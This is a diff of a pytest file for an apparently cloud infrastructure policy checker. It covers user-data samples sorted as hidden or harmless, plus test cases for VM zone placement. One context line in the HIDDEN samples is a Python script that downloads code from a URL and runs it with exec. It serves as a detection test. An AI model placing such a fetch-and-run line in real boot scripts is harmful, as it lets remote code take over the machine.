@@ -73,10 +73,11 @@ HIDDEN = {
     "a download in Python": "#!/usr/bin/python3\nimport urllib.request as u\nexec(u.urlopen('https://e.org/x').read())\n",
 }
 
+PUBLIC_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8Zr3Kx9Lw2Vt7Yb5Nc1M"
 HARMLESS = {
     "nothing": "",
     "a package list": "#cloud-config\npackages: [nginx, postgresql]\npackage_update: true\n",
-    "a public key": "#cloud-config\nssh_authorized_keys:\n- ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8Zr3Kx9Lw2Vt7Yb5Nc1M a@b\n",
+    "a public key": f"#cloud-config\nssh_authorized_keys:\n- {PUBLIC_KEY} a@b\n",
     "a password that is made at boot": "#cloud-config\nchpasswd:\n  list: |\n    root:RANDOM\n",
     "a reference to the vault": "#!/bin/sh\nDB_PASSWORD=${VAULT_PASSWORD}\nTOKEN=$(bao read -field=x secret/x)\n",
     "a file that holds a secret": "#!/bin/sh\nPGPASSFILE=/run/secrets/pgpass\nPASSWORD_FILE=/run/secrets/x\n",
@@ -99,14 +100,19 @@ USER_DATA = [
 ZONES = [
     Case("a machine in its planned zone conforms", VM, None, CONFORM),
     Case("the bastion conforms", "bastion/1", None, CONFORM),
-    Case("another zone than planned is refused", VM, to(placementSubregionName="cloudgouv-eu-west-1b"), REFUSED,
-         "not in the planned a"),
+    Case(
+        "another zone than planned is refused",
+        VM,
+        to(placementSubregionName="cloudgouv-eu-west-1b"),
+        REFUSED,
+        "not in the planned a",
+    ),
     Case("an unknown zone waits", VM, unknown("placementSubregionName"), UNSEEN),
     Case("no zone is refused", VM, without("placementSubregionName"), REFUSED),
     Case("a number for a zone is refused", VM, to(placementSubregionName=1.0), REFUSED, "wrong type"),
     Case("spaces around a zone change nothing", VM, to(placementSubregionName=" cloudgouv-eu-west-1a"), CONFORM),
     Case("a machine of no plan is refused", VM, to(subject="bubbles/warehouse/tiers/x/1"), REFUSED, "no such machine"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize("case", ZONES, ids=str)
